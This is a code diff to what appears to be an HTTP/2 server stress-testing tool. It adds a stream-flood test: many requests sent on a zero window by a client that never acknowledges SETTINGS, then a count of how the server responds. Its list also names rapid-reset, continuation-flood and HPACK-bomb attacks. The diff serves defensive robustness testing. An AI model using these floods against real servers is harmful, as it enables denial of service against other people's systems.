@@ -657,6 +657,25 @@ def attack_h2_rapid_reset(target, rng, scale):
     return "%d streams opened and reset: %s" % (sid // 2, describe_h2(data, closed))
 
 
+def attack_h2_stream_flood_without_settings_ack(target, rng, scale):
+    """Complete requests whose answers cannot be sent (the client's initial window is 0, so the streams stay
+    open) by a client that never ACKs our SETTINGS, so never agreed to SETTINGS_MAX_CONCURRENT_STREAMS: the
+    server must still cap the streams it holds and dispatches per connection."""
+    try:
+        s = h2_open(target, [(4, 0)])
+    except OSError as error:
+        return "connect failed: %s" % error
+    count = 1000 * scale
+    send_quietly(s, b"".join(h2_request(2 * i + 1) for i in range(count)))
+    data, closed = drain(s, 2 * WAIT + 1, until_goaway=True)
+    s.close()
+    frames = parse_frames(data)
+    resets = sum(1 for t, _, _, _ in frames if t == RST_STREAM)
+    answered = sum(1 for t, _, _, _ in frames if t == HEADERS)
+    return "%d requests on a 0 window: %d answered (heads), %d reset by the server, %s" % (
+        count, answered, resets, describe_h2(data, closed).split(", ")[-1] if not goaway_of(frames) else "GOAWAY " + goaway_of(frames))
+
+
 def attack_h2_huge_header_list(target, rng, scale):
     out = []
     # 1 MB of header fields over HEADERS + CONTINUATION, ending properly.
@@ -879,6 +898,7 @@ def run(targets, seed, scale, timeout, hold, mutations, only):
         ("h2-hpack-bombs", attack_h2_hpack_bombs),
         ("h2-continuation-flood", attack_h2_continuation_flood),
         ("h2-rapid-reset", attack_h2_rapid_reset),
+        ("h2-stream-flood-no-settings-ack", attack_h2_stream_flood_without_settings_ack),
         ("h2-huge-header-list", attack_h2_huge_header_list),
         ("h2-settings-ping-floods", attack_h2_settings_and_ping_floods),
         ("h2-window-update-overflow", attack_h2_window_update_overflow),
